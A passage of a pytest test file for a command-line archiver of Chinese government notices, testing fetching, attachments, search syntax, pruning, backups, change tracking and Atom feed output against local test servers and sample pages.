    code, out, _ = run("history", where, "--db", str(db))
    assert code == 0
    (marked,) = [line for line in out.splitlines() if line.startswith("~")]
    assert "[-坚实-]{+有力+}保障" in marked
    code, out, _ = run("history", where, "--db", str(db), "--json")
    found = json.loads(out)
    assert code == 0 and len(found["versions"]) == 2
    (change,) = found["changes"]
    assert (change["from"], change["to"], change["title"]) == (1, 2, None)
    changed = [line for hunk in change["hunks"] for line in hunk["lines"] if line["op"] == "change"]
    assert len(changed) == 1
    parts = changed[0]["parts"]
    assert {"op": "delete", "text": "坚实"} in parts and {"op": "insert", "text": "有力"} in parts
    assert "".join(p["text"] for p in parts if p["op"] != "insert") == changed[0]["before"]


def _on_a_terminal(*args: str) -> tuple[int, str]:
    """Run the installed program with stderr on a pseudo-terminal: its exit code and what
    the terminal showed."""
    import os
    import pty

    leader, follower = pty.openpty()
    proc = _cli(*args, stdout=subprocess.DEVNULL, stderr=follower, stdin=subprocess.DEVNULL)
    os.close(follower)
    shown = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the program closed the terminal
            break
        if not chunk:
            break
        shown += chunk
    os.close(leader)
    return proc.wait(timeout=60), shown.decode("utf-8", "replace")


def test_long_commands_show_progress_on_a_terminal_only(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    pages = [
        str(SAMPLES / p) for p in ("seed-utf8.html", "table-meta.html", "portal-dateline.html")
    ]
    code, shown = _on_a_terminal("fetch", *pages, "--db", str(db))
    assert code == 0 and "fetching" in shown and "/3" in shown
    code, shown = _on_a_terminal("fetch", *pages, "--db", str(db), "--quiet")
    assert code == 0 and shown == ""
    code, shown = _on_a_terminal("reparse", "--db", str(db))
    assert code == 0 and "reparsing" in shown
    code, shown = _on_a_terminal("reparse", "--db", str(db), "-q")
    assert code == 0 and shown == ""
    code, shown = _on_a_terminal("export", "--db", str(db))
    assert code == 0 and "exporting" in shown
    code, shown = _on_a_terminal("export", "--db", str(db), "--quiet")
    assert code == 0 and shown == ""
    # not a terminal: nothing but the summary line
    code, _, err = run("fetch", *pages, "--db", str(db))
    assert code == 0 and err == ""


# ------------------------------------------------- documents: record fields and attachments


def test_fetch_keeps_a_notices_attachments_and_search_finds_a_phrase_in_each(
    tmp_path: Path,
) -> None:
    """A 信息公开 notice with a PDF, a DOCX, an XLSX and an OFD attached, over HTTP: all four
    files are kept with their text, each phrase found and said to be in an attachment, and the
    files come back out byte for byte."""
    from .test_pipeline import ATTACHED, DOCUMENTS, _Site

    site = _Site()
    db = tmp_path / "a.db"
    try:
        code, out, err = run("fetch", site.base + "/notice.html", "--db", str(db))
    finally:
        site.close()
    assert code == 0, err  # the fifth attachment is gone (404): said, and the article kept
    assert "new" in out and err.startswith("warning: attachment not kept:") and "404" in err
    (ident,) = rows(db, "SELECT id FROM articles")[0]
    for phrase in ATTACHED.values():
        code, out, _ = run("search", phrase, "--db", str(db))
        assert code == 0 and out.startswith(f"{ident}\t") and "in attachment:" in out, phrase
    code, out, _ = run("show", str(ident), "--db", str(db))
    assert code == 0 and "[attachments]" in out and "澜政办发〔2023〕7号" in out
    assert out.count("characters of text") == 4 and "404" in out
    saved = tmp_path / "files"
    code, out, _ = run("attachment", str(ident), "--db", str(db), "--save", str(saved))
    assert code == 0
    written = {p.name.split("-", 1)[1]: p.read_bytes() for p in saved.iterdir()}
    assert set(written) == {"a.pdf", "b.docx", "c.xlsx", "d.ofd"}
    originals = sorted((DOCUMENTS / name).read_bytes() for name in ATTACHED)
    assert sorted(written.values()) == originals


def test_the_attachments_table_answers_sqlite3(tmp_path: Path) -> None:
    from .test_pipeline import _Site

    if shutil.which("sqlite3") is None:
        pytest.skip("sqlite3 is not installed")
    site = _Site()
    db = tmp_path / "a.db"
    try:
        run("fetch", site.base + "/notice.html", "--db", str(db))
    finally:
        site.close()
    query = (
        "SELECT a.doc_number, t.kind, t.size > 0 FROM attachments t "
        "JOIN articles a ON a.id = t.article_id WHERE t.text IS NOT NULL ORDER BY t.position"
    )
    out = subprocess.run(
        ["sqlite3", str(db), query], capture_output=True, text=True, check=True
    ).stdout
    assert out.splitlines() == [
        f"澜政办发〔2023〕7号|{k}|1" for k in ("pdf", "docx", "xlsx", "ofd")
    ]


_XXGK_BODY = (
    "<h1>{title}</h1><div class='zoom'><p>各市人民政府，省政府各部门：</p>"
    "<p>现将有关事项通知如下，请结合实际认真贯彻落实，确保各项工作任务按期完成，取得实效。</p>"
    "<p>各地在执行中遇到的问题，请及时向省政府办公厅反映。本通知自印发之日起施行。</p></div>"
)
_XXGK_TEMPLATES = {
    # label and value cells, two pairs a row
    "/zwgk/a.html": "<table class='xxgk'><tr><td>索 引 号：</td><td>{index}</td><td>主题分类：</td>"
    "<td>{subject}</td></tr><tr><td>发布机构：</td><td>{issuer}</td><td>成文日期：</td>"
    "<td>{written_cn}</td></tr><tr><td>发文字号：</td><td>{number}</td><td>有 效 性：</td>"
    "<td>{validity}</td></tr></table>",
    # a list of label spans
    "/zwgk/b.html": "<ul class='info'><li><span>索引号：</span>{index}</li>"
    "<li><span>发文机关：</span>{issuer}</li><li><span>文号：</span>{number}</li>"
    "<li><span>成文日期：</span>{written}</li><li><span>主题词：</span>{subject}</li>"
    "<li><span>是否有效：</span>{validity}</li></ul>",
    # pairs run together on two lines
    "/zwgk/c.html": "<div class='meta'><p>索引号：{index}　发布机构：{issuer}　"
    "成文日期：{written}</p><p>发文字号：{number} | 主题分类：{subject} | 有效性：{validity}"
    "</p></div>",
}


def test_a_disclosure_site_in_three_templates_gives_the_record_fields_to_sqlite3(
    tmp_path: Path,
) -> None:
    """Three CMS templates of 政府信息公开 pages over HTTP: each page's record table lands in
    the article's columns, where sqlite3 (and a facet) can group them."""
    if shutil.which("sqlite3") is None:
        pytest.skip("sqlite3 is not installed")
    values = {
        "/zwgk/a.html": ("115200000099000456/2023-00031", "澜江省自然资源厅",
                         "澜自然资发〔2023〕7号", "2023-04-18", "国土资源、能源", "有效"),
        "/zwgk/b.html": ("115200000099000456/2023-00032", "澜江省自然资源厅",
                         "澜自然资发〔2023〕8号", "2023-04-20", "国土资源", "失效"),
        "/zwgk/c.html": ("115200000099000789/2023-00005", "澜江省水利厅",
                         "澜水发〔2023〕2号", "2023-05-06", "水利", "有效"),
    }  # fmt: skip
    pages = {}
    for path, (index, issuer, number, written, subject, validity) in values.items():
        y, m, d = written.split("-")
        head = _XXGK_TEMPLATES[path].format(
            index=index, issuer=issuer, number=number, written=written,
            written_cn=f"{y}年{m}月{d}日", subject=subject, validity=validity,
        )  # fmt: skip
        title = f"关于{number}的通知"
        body = _XXGK_BODY.format(title=title)
        pages[path] = f"<html><head><title>{title}</title></head><body>{head}{body}</body></html>"

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            data = pages[self.path].encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args: object) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    db = tmp_path / "a.db"
    try:
        base = f"http://127.0.0.1:{httpd.server_port}"
        code, _, err = run("fetch", *(base + p for p in pages), "--db", str(db))
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert code == 0, err
    query = (
        "SELECT index_number, issuer, doc_number, written, subject, validity FROM articles "
        "ORDER BY index_number"
    )
    out = subprocess.run(["sqlite3", str(db), query], capture_output=True, text=True, check=True)
    assert out.stdout.splitlines() == ["|".join(v) for v in values.values()]
    facet = "SELECT issuer, count(*) FROM articles GROUP BY issuer ORDER BY 2 DESC"
    out = subprocess.run(["sqlite3", str(db), facet], capture_output=True, text=True, check=True)
    assert out.stdout.splitlines() == ["澜江省自然资源厅|2", "澜江省水利厅|1"]


# ---------------------------------------------------------------------- finding and upkeep


def _texts(db: Path) -> dict[int, tuple[str, str]]:
    return {
        int(str(i)): (str(t or ""), str(b))
        for i, t, b in rows(db, "select id, title, body from articles")
    }


def test_list_shows_what_is_archived_newest_first(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    with sqlite3.connect(db) as conn:  # dates apart, to see the order
        conn.execute("update articles set published = '2021-01-01' where title like '%夏粮%'")
    code, out, _ = run("list", "--db", str(db))
    assert code == 0
    lines = [line.split("\t") for line in out.splitlines()]
    assert len(lines) == 4 and all(len(line) == 4 for line in lines)
    assert [line[1] for line in lines] == sorted((line[1] for line in lines), reverse=True)
    assert "夏粮" in lines[-1][3]
    code, out, _ = run("list", "--db", str(db), "--since", "2022-01-01", "--limit", "2", "--json")
    found = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(found) == 2
    assert set(found[0]) == {"id", "published", "site", "title", "url"}
    assert all(f["published"] >= "2022-01-01" for f in found)
    code, out, _ = run("list", "--db", str(db), "--site", "elsewhere.example")
    assert (code, out) == (0, "")


def test_search_says_so_on_stderr_when_nothing_matches(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    code, out, err = run("search", "不存在的词语", "--db", str(db))
    assert (code, out) == (0, "")
    assert err == "no match for 不存在的词语\n"


@pytest.mark.parametrize(
    ("query", "wanted"),
    [
        ("党建 OR 夏粮", lambda t, b: "党建" in t + b or "夏粮" in t + b),
        (
            "生态环境 OR 夏粮 -收购",
            lambda t, b: ("生态环境" in t + b or "夏粮" in t + b) and "收购" not in t + b,
        ),
        ("工作 NOT 党建", lambda t, b: "工作" in t + b and "党建" not in t + b),
        ("title:党建", lambda t, b: "党建" in t),
        ("活动 -title:活动", lambda t, b: "活动" in b and "活动" not in t),
    ],
)
def test_search_takes_or_not_and_title_terms(tmp_path: Path, query: str, wanted: object) -> None:
    db = _archive_with_samples(tmp_path)
    code, out, err = run("search", query, "--db", str(db), "--json", "--limit", "100")
    assert code == 0, err
    found = {json.loads(line)["id"] for line in out.splitlines()}
    assert callable(wanted)
    assert found and found == {i for i, (t, b) in _texts(db).items() if wanted(t, b)}


def test_search_sorts_by_date_or_relevance_and_pages_with_offset(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With more matches than are ranked, the default is newest first, and stderr says so;
    --sort relevance ranks the newest ones; --offset pages through every match."""
    from scraper.archive import search as search_module
    from scraper.cli import reading

    db = _archive_with_samples(tmp_path)
    _, out, _ = run("search", "的", "--db", str(db), "--json", "--limit", "50")
    everything = {json.loads(line)["id"] for line in out.splitlines()}
    assert len(everything) == 4
    for sort in ("date", "relevance", "auto"):
        paged = []
        for offset in range(5):
            code, out, err = run("search", "的", "--db", str(db), "--json", "--limit", "1",
                                 "--offset", str(offset), "--sort", sort)  # fmt: skip
            assert code == 0, err
            paged += [json.loads(line)["id"] for line in out.splitlines()]
        assert sorted(paged) == sorted(everything)
        assert err == "no match for 的 past 4\n"
    dated = [json.loads(line) for line in run("search", "的", "--db", str(db), "--json",
                                               "--sort", "date")[1].splitlines()]  # fmt: skip
    assert [h["published"] for h in dated] == sorted((h["published"] for h in dated), reverse=True)
    for module in (search_module, reading):
        monkeypatch.setattr(module, "CANDIDATES", 2)
    code, out, err = run("search", "的", "--db", str(db))
    assert (
        code == 0
        and err == "more than 2 matches: newest first (--sort relevance ranks the newest 2)\n"
    )
    code, out, err = run("search", "的", "--db", str(db), "--sort", "relevance")
    assert code == 0 and "the newest 2 ranked, the rest after them newest first" in err
    assert len(out.splitlines()) == 8  # four hits of two lines each
    code, _, err = run("search", "的", "--db", str(db), "--sort", "newest")
    assert code == 2 and "newest" in err


def test_search_help_documents_its_syntax() -> None:
    code, out, _ = run("search", "--help")
    assert code == 0
    for word in ("OR", "NOT", "-试点", "title:", "--works", "--sort", "--offset"):
        assert word in out


def test_search_works_gives_one_line_per_work_with_its_copies(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)  # seed-utf8 and seed-gbk-nodecl: one work, 2 copies
    code, out, _ = run("search", "党建", "--db", str(db), "--json")
    every = [json.loads(line) for line in out.splitlines()]
    code, out, _ = run("search", "党建", "--db", str(db), "--works")
    assert code == 0
    lines = [line for line in out.splitlines() if not line.startswith("    ")]
    works = {r[0] for r in rows(db, "select distinct work_id from articles")}
    assert len(every) > len(lines) >= 1
    assert len(lines) <= len(works)
    ident, copies, *_ = lines[0].split("\t")
    assert int(ident) == every[0]["id"] and copies == "2 copies"
    code, out, _ = run("search", "党建", "--db", str(db), "--works", "--json")
    assert [json.loads(line)["copies"] for line in out.splitlines()] == [2]


def _versioned_archive(tmp_path: Path) -> tuple[Path, str]:
    """An archive with one article fetched in three versions, a dead crawl URL and a raw page
    nothing refers to."""
    db, page = tmp_path / "a.db", tmp_path / "page.html"
    url = "https://www.example.gov.cn/art/2022/6/24/art_1_20233.html"
    html = SEED.read_text(encoding="utf-8")
    first_line = EXPECTED["body"].splitlines()[0]
    for n in range(3):
        page.write_text(html.replace(first_line, first_line + "修订" * n), encoding="utf-8")
        code, _, err = run("fetch", str(page), "--url", url, "--db", str(db))
        assert code == 0, err
    with sqlite3.connect(db) as conn:
        conn.execute(
            "insert into raw_pages (sha256, size, compression, content) "
            "values ('0' || hex(randomblob(31)), 3, 'none', x'616263')"
        )
        conn.execute(
            "insert into frontier (url, site, host, kind, discovered_at, next_fetch_at, status, "
            "failures, error) values ('https://h/dead', 's', 'h', 'article', 't', 't', 'failed', "
            "7, 'HTTP 404')"
        )
    return db, url


def test_prune_dry_run_prints_what_it_would_remove_and_changes_nothing(tmp_path: Path) -> None:
    db, _ = _versioned_archive(tmp_path)
    counts = (
        "select (select count(*) from versions), (select count(*) from frontier), "
        "(select count(*) from raw_pages)"
    )
    before = rows(db, counts)
    assert before == [(2, 1, 4)]
    args = ["--keep-versions", "1", "--failed-over", "3", "--db", str(db)]
    code, out, err = run("prune", *args, "--dry-run")
    assert code == 0, err
    kinds = Counter(line.split("\t")[0] for line in out.splitlines())
    assert kinds == {"version": 1, "frontier": 1, "raw": 1}
    assert "https://h/dead\t7\tHTTP 404" in out
    assert err.startswith("would remove 1 version(s), 1 frontier row(s), 1 raw page(s)")
    assert rows(db, counts) == before
    code, out2, err = run("prune", *args)
    assert code == 0 and out2 == out
    assert err.startswith("removed 1 version(s), 1 frontier row(s), 1 raw page(s)")
    assert rows(db, counts) == [(1, 0, 3)]
    code, out, err = run("vacuum", "--db", str(db))
    assert code == 0 and err.startswith(f"vacuumed {db}: ")
    assert rows(db, "pragma integrity_check") == [("ok",)]


def test_prune_and_vacuum_need_an_archive(tmp_path: Path) -> None:
    for command in ("prune", "vacuum"):
        code, _, err = run(command, "--db", str(tmp_path / "none.db"))
        assert code == EXIT_ARCHIVE and "no archive" in err
    assert not (tmp_path / "none.db").exists()


def test_backup_writes_a_whole_archive_the_cli_reads(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    dest = tmp_path / "backup.db"
    code, _, err = run("backup", str(dest), "--db", str(db))
    assert code == 0 and err.startswith(f"backed up {db} to {dest}")
    assert rows(dest, "pragma journal_mode") == [("delete",)]  # one file, fit to copy away
    code, out, _ = run("search", "党建", "--db", str(dest))
    assert code == 0 and out
    assert rows(dest, "select id, title from articles order by id") == rows(
        db, "select id, title from articles order by id"
    )
    code, _, err = run("backup", str(dest), "--db", str(db))
    assert code == EXIT_USAGE and "exists" in err
    code, _, err = run("backup", str(tmp_path / "no" / "b.db"), "--db", str(db))
    assert code == EXIT_USAGE and "does not exist" in err


def _sqlite_utils(*args: str) -> subprocess.CompletedProcess[str]:
    exe = shutil.which("sqlite-utils") or str(Path(sys.executable).with_name("sqlite-utils"))
    return subprocess.run([exe, *args], capture_output=True, text=True, timeout=60)


SQLITE_UTILS_SEARCH = (
    "select a.id, a.title from articles_fts join articles a on a.search_key = articles_fts.rowid "
    "where articles_fts match {} order by articles_fts.rowid desc limit 20"
)


@pytest.mark.parametrize("term", ["党", "党建", "执法练兵活动", "党建 OR 夏粮", "党 -夏粮"])
def test_sqlite_utils_finds_what_archiver_search_finds(tmp_path: Path, term: str) -> None:
    """`sqlite-utils search` cannot use a contentless index (it wants content=articles);
    `sqlite-utils query` with the archive's own match function (--functions) can, and so can a
    match expression written out by hand."""
    db = _archive_with_samples(tmp_path)
    _, out, _ = run("search", term, "--db", str(db), "--json", "--limit", "100")
    expected = {json.loads(line)["id"] for line in out.splitlines()}
    assert expected
    done = _sqlite_utils(
        "query",
        str(db),
        SQLITE_UTILS_SEARCH.format("match_query(:q)"),
        "-p",
        "q",
        term,
        "--functions",
        "from scraper.archive.textindex import match_query",
    )
    assert done.returncode == 0, done.stderr
    assert {r["id"] for r in json.loads(done.stdout)} == expected
    if term == "党建":
        by_hand = _sqlite_utils(
            "query", str(db), SQLITE_UTILS_SEARCH.format(":q"), "-p", "q", '"党建"'
        )
        assert {r["id"] for r in json.loads(by_hand.stdout)} == expected
        stock = _sqlite_utils("search", str(db), "articles", term)
        assert stock.returncode != 0 and "not configured for full-text search" in stock.stderr


# ------------------------------------------------- changes: edits and takedowns (issue 22)

ORIGINAL = "https://www.gov.example.cn/art/2026/11/2/art_1_1.html"
COPY = "https://news.portal.example.com/2026/11/03/c_1.html"
EDITED = "https://www.gov.example.cn/art/2026/11/2/art_1_2.html"
SOFT = "https://www.city.example.gov.cn/col/art_9.html"
BODY = "\n".join(
    [
        "第一段：为深入贯彻落实党中央、国务院决策部署，现就有关事项通知如下。",
        "第二段：各地要为高质量发展提供坚实保障，确保各项任务落到实处。",
        "第三段：本通知自印发之日起施行，请各单位认真遵照执行并及时报告情况。",
    ]
)


def _page(url: str, when: str, content: bytes = b"<html><body><p>x</p></body></html>") -> Page:
    from .test_archive import page

    return page(content, when, url)


def _changes_archive(
    tmp_path: Path, title: str = "关于做好有关工作的通知"
) -> tuple[Path, dict[str, int]]:
    """An archive holding one of each change: an edit, a 404 withdrawal, a soft-404
    withdrawal and a return, and the original of a two-copy work withdrawn while its copy
    survives."""

    def art(url: str, body: str = BODY, published: str | None = None, **kw: str) -> Article:
        return Article(
            url=url, canonical_url=url, title=title, body=body, published=published, **kw
        )

    def gone(url: str, when: str, status: int) -> tuple[FetchAttempt, ...]:
        return (FetchAttempt(url=url, time=when, status=status, final_url=url),)

    db = tmp_path / "archive.db"
    ids: dict[str, int] = {}
    with Archive.open(db) as a:
        ids["original"] = a.save(
            _page(ORIGINAL, "2026-11-02T01:00:00Z"),
            art(ORIGINAL, published="2026-11-02"),
        ).id
        ids["copy"] = a.save(
            _page(COPY, "2026-11-03T01:00:00Z"),
            art(COPY, published="2026-11-03", original_url=ORIGINAL),
        ).id
        other = BODY.replace("第", "其").replace("通知", "办法") + "\n附：另一份文件的说明。"
        ids["edited"] = a.save(_page(EDITED, "2026-11-04T01:00:00Z"), art(EDITED, other)).id
        a.save(
            _page(EDITED, "2026-11-05T01:00:00Z", b"<p>y</p>"),
            art(EDITED, other.replace("坚实", "有力")),
        )
        ids["soft"] = a.save(
            _page(SOFT, "2026-11-04T02:00:00Z"),
            art(SOFT, "城市通知：关于开展城市更新试点工作的安排，请各区认真组织实施并按时报送。"),
        ).id
        a.withdraw(
            SOFT,
            "not-found page",
            "2026-11-06T01:00:00Z",
            gone(SOFT, "2026-11-06T01:00:00Z", 200),
            None,
        )
        a.save(
            _page(SOFT, "2026-11-07T01:00:00Z"),
            art(SOFT, "城市通知：关于开展城市更新试点工作的安排，请各区认真组织实施并按时报送。"),
        )
        a.withdraw(
            ORIGINAL,
            "HTTP 404",
            "2026-11-08T01:00:00Z",
            gone(ORIGINAL, "2026-11-08T01:00:00Z", 404),
            None,
        )
    return db, ids


def test_changes_lists_edits_withdrawals_and_returns_newest_first(tmp_path: Path) -> None:
    db, ids = _changes_archive(tmp_path)
    before = db.read_bytes()
    code, out, err = run("changes", "--db", str(db))
    assert code == 0, err
    heads = [line.split("\t")[:3] for line in out.splitlines() if not line.startswith(" ")]
    assert heads == [
        ["2026-11-08T01:00:00Z", "withdrawn", str(ids["original"])],
        ["2026-11-07T01:00:00Z", "restored", str(ids["soft"])],
        ["2026-11-06T01:00:00Z", "withdrawn", str(ids["soft"])],
        ["2026-11-05T01:00:00Z", "edited", str(ids["edited"])],
    ]
    lines = out.splitlines()
    assert lines[1] == "    HTTP 404; original withdrawn; 1 copy survives: news.portal.example.com"
    assert lines[4] == "    not-found page"
    (edit,) = [line for line in lines[5:] if line.startswith("    ")]
    # by character, only the changed paragraph, the change marked inline
    assert edit == "    其二段：各地要为高质量发展提供[-坚实-]{+有力+}保障，确保各项任务落到实处。"
    assert db.read_bytes() == before  # read-only


def test_changes_cuts_a_long_paragraph_to_the_text_around_each_change(tmp_path: Path) -> None:
    from scraper.cli.changes import edits

    long_line = "甲" * 100 + "坚实" + "乙" * 100 + "旧" + "丙" * 5 + "词" + "丁" * 100
    after = long_line.replace("坚实", "有力").replace("旧", "新").replace("词", "语")
    fields = dict.fromkeys(
        ("index_number", "issuer", "doc_number", "written", "subject", "validity")
    )
    found = edits(
        {"title": "题", "body": long_line, **fields, "validity": "有效"},
        {"title": "题", "body": after, **fields, "validity": "废止"},
    )
    assert [(e["field"], e["cut_before"], e["cut_after"]) for e in found] == [
        ("body", True, True),
        ("body", True, True),
        ("validity", False, False),
    ]
    item = {"kind": "edited", "diff": found}
    from scraper.cli.output import change_details

    assert change_details(item) == [
        "…" + "甲" * 20 + "[-坚实-]{+有力+}" + "乙" * 20 + "…",
        "…" + "乙" * 20 + "[-旧-]{+新+}" + "丙" * 5 + "[-词-]{+语+}" + "丁" * 20 + "…",
        "validity: [-有效-]{+废止+}",
    ]


def test_changes_json_gives_the_diff_as_parts_and_the_surviving_copies(tmp_path: Path) -> None:
    db, ids = _changes_archive(tmp_path)
    code, out, err = run("changes", "--db", str(db), "--json")
    assert code == 0, err
    found = [json.loads(line) for line in out.splitlines()]
    assert [c["kind"] for c in found] == ["withdrawn", "restored", "withdrawn", "edited"]
    original, _, soft, edit = found
    assert original["original_withdrawn"] == {
        "copies": 1,
        "surviving": [{"id": ids["copy"], "url": COPY, "site": "news.portal.example.com"}],
    }
    assert soft["original_withdrawn"] is None and soft["reason"] == "not-found page"
    (excerpt,) = edit["diff"]
    assert excerpt["field"] == "body"
    assert [(p["op"], p["text"]) for p in excerpt["parts"]] == [
        ("equal", "其二段：各地要为高质量发展提供"),
        ("delete", "坚实"),
        ("insert", "有力"),
        ("equal", "保障，确保各项任务落到实处。"),
    ]
    assert (edit["url"], edit["site"]) == (EDITED, "www.gov.example.cn")


def test_changes_filters_by_kind_site_and_since(tmp_path: Path) -> None:
    db, ids = _changes_archive(tmp_path)

    def kinds(*args: str) -> list[tuple[str, str]]:
        code, out, err = run("changes", "--db", str(db), *args)
        assert code == 0, err
        return [tuple(line.split("\t")[1:3]) for line in out.splitlines() if line[:1] != " "]  # type: ignore[misc]

    soft, original = str(ids["soft"]), str(ids["original"])
    assert kinds("--kind", "withdrawn") == [("withdrawn", original), ("withdrawn", soft)]
    assert kinds("--site", "www.city.example.gov.cn") == [("restored", soft), ("withdrawn", soft)]
    assert kinds("--since", "2026-11-07") == [("withdrawn", original), ("restored", soft)]
    assert kinds("--kind", "restored", "--limit", "1") == [("restored", soft)]
    code, _, err = run("changes", "--db", str(db), "--kind", "deleted")
    assert code == EXIT_USAGE and "edited, withdrawn or restored" in err
    code, _, err = run("changes", "--db", str(tmp_path / "none.db"))
    assert code == EXIT_ARCHIVE


ATOM = "{http://www.w3.org/2005/Atom}"


def _atom(path: Path) -> object:
    import xml.etree.ElementTree as ET
    from datetime import datetime

    root = ET.parse(path).getroot()
    assert root.tag == ATOM + "feed"
    for element in (root, *root.findall(ATOM + "entry")):
        # RFC 4287: exactly one id, title and updated; updated an RFC 3339 time
        for tag in ("id", "title", "updated"):
            assert len(element.findall(ATOM + tag)) == 1, (element.tag, tag)
            assert (element.findtext(ATOM + tag) or "").strip(), (element.tag, tag)
        assert datetime.fromisoformat(element.findtext(ATOM + "updated") or "").tzinfo
    # an author on the feed (and so on every entry), a name in each
    assert root.find(f"{ATOM}author/{ATOM}name") is not None
    for entry in root.findall(ATOM + "entry"):
        assert entry.find(f"{ATOM}author/{ATOM}name") is not None
        # no content: a rel=alternate link is required
        assert entry.find(f"{ATOM}link[@rel='alternate']") is not None
    return root


def test_changes_atom_feed_is_valid_atom_with_stable_ids(tmp_path: Path) -> None:
    db, _ = _changes_archive(tmp_path)
    feed = tmp_path / "changes.xml"
    code, out, err = run("changes", "--db", str(db), "--atom", str(feed))
    assert code == 0, err
    assert out == "" and "4 change(s)" in err
    root: Any = _atom(feed)
    assert root.findtext(ATOM + "id") == feed.resolve().as_uri()
    assert root.find(ATOM + "link[@rel='self']").get("href") == feed.resolve().as_uri()
    assert root.findtext(ATOM + "updated") == "2026-11-08T01:00:00Z"
    entries = root.findall(ATOM + "entry")
    assert [e.findtext(ATOM + "title") for e in entries] == [
        "withdrawn: 关于做好有关工作的通知",
        "restored: 关于做好有关工作的通知",
        "withdrawn: 关于做好有关工作的通知",
        "edited: 关于做好有关工作的通知",
    ]
    first, *_, edit = entries
    assert first.find(ATOM + "link").get("href") == ORIGINAL
    assert first.findtext(f"{ATOM}author/{ATOM}name") == "www.gov.example.cn"
    assert "original withdrawn; 1 copy survives: news.portal.example.com" in first.findtext(
        ATOM + "summary"
    )
    assert "提供[-坚实-]{+有力+}保障" in edit.findtext(ATOM + "summary")
    ids_once = [e.findtext(ATOM + "id") for e in entries]
    assert len(set(ids_once)) == 4
    # written again (by a later run, to another place): the same ids
    code, _, err = run(
        "changes", "--db", str(db), "--atom", str(tmp_path / "b.xml"),
        "--feed-url", "https://example.org/changes.xml",
    )  # fmt: skip
    assert code == 0, err
    again: Any = _atom(tmp_path / "b.xml")
    assert [e.findtext(ATOM + "id") for e in again.findall(ATOM + "entry")] == ids_once
    assert again.findtext(ATOM + "id") == "https://example.org/changes.xml"
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == []


def test_changes_atom_feed_is_well_formed_whatever_the_page_says(tmp_path: Path) -> None:
    hostile = "标题]]><b>&amp;</b>\x00\x07\x1b[31m\x85<![CDATA[x]]>\ufffe"
    db, _ = _changes_archive(tmp_path, title=hostile)
    feed = tmp_path / "feed.atom"
    code, _, err = run("changes", "--db", str(db), "--atom", str(feed))
    assert code == 0, err
    root: Any = _atom(feed)
    titles = [e.findtext(ATOM + "title") for e in root.findall(ATOM + "entry")]
    assert titles[0] == "withdrawn: 标题]]><b>&amp;</b>[31m<![CDATA[x]]>"
    code, _, err = run("changes", "--db", str(db), "--atom", str(tmp_path / "no" / "f.xml"))
    assert code == EXIT_USAGE


# What a read command must not load: each costs more than the command's own work (sqlite-utils
# alone pulls in numpy, dateutil and pluggy; typer's pydantic coercion, program.py's quicken).
HEAVY = (
    "sqlite_utils", "numpy", "httpx", "httpcore", "selectolax", "warcio", "pydantic",
    "scraper.parse", "scraper.fetch.client", "scraper.crawl.run", "scraper.warc",
    "scraper.cli.capture", "scraper.cli.crawling",
)  # fmt: skip
_LOADED = """
import json, sys
from scraper.cli import main
sys.argv = ["archiver", *sys.argv[1:]]
try:
    main()
except SystemExit as done:
    sys.stdout.flush()
    heavy = json.loads(sys.stdin.read())
    loaded = [h for h in heavy if any(m == h or m.startswith(h + ".") for m in sys.modules)]
    print(json.dumps({"code": done.code, "loaded": loaded}), file=sys.stderr)
"""


def test_read_commands_import_no_fetcher_parser_numpy_or_sqlite_utils(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    code, out, err = run("fetch", str(SEED), "--db", str(db))
    assert code == 0, err
    ident = out.split("\t")[0]
    for command in (["search", "党"], ["show", ident], ["list"], ["search", "--help"]):
        done = subprocess.run(
            [sys.executable, "-c", _LOADED, *command, "--db", str(db)],
            input=json.dumps(HEAVY),
            capture_output=True,
            text=True,
            timeout=60,
        )
        report = json.loads(done.stderr.strip().splitlines()[-1])
        assert report["code"] == 0, done
        assert ident in done.stdout or "Usage: archiver search" in done.stdout, done
        assert report["loaded"] == [], (command, report["loaded"])
